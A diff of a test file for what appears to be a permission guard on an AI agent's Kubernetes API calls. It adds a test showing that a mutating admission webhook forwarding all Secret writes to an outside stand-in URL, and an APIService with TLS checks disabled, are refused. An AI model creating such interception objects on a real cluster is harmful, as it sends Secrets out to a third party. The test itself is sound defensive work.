@@ -114,6 +114,13 @@ test('approving a certificate signing request is refused for an agent', async ()
   refused(await agent('/apis/certificates.k8s.io/v1/certificatesigningrequests/x/approval', { method: 'PUT', type: 'application/json', body }), 'warden.rules.kubernetes.csr_approval', 'csr approval')
 })
 
+test('an admission webhook or API service (every write, Secrets in clear, sent to a URL) is refused for an agent', async () => {
+  const hook = JSON.stringify({ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'tap' }, webhooks: [{ name: 'tap.example.com', clientConfig: { url: 'https://tap.example.com/' }, rules: [{ operations: ['CREATE', 'UPDATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'] }], sideEffects: 'None', admissionReviewVersions: ['v1'] }] })
+  refused(await agent('/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations', { method: 'POST', type: 'application/json', body: hook }), 'warden.rules.kubernetes.interception', 'webhook')
+  const svc = JSON.stringify({ apiVersion: 'apiregistration.k8s.io/v1', kind: 'APIService', metadata: { name: 'v1.tap.example.com' }, spec: { group: 'tap.example.com', version: 'v1', groupPriorityMinimum: 1000, versionPriority: 15, service: { name: 'tap', namespace: 'staging' }, insecureSkipTLSVerify: true } })
+  refused(await agent('/apis/apiregistration.k8s.io/v1/apiservices', { method: 'POST', type: 'application/json', body: svc }), 'warden.rules.kubernetes.interception', 'apiservice')
+})
+
 test('pod templates inside Deployments, CronJobs and server-side apply YAML are read too', async () => {
   const secretEnv = { containers: [container({ envFrom: [{ secretRef: { name: 'db' } }] })] }
   const dep = JSON.stringify({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'd' }, spec: { selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec: secretEnv } } })
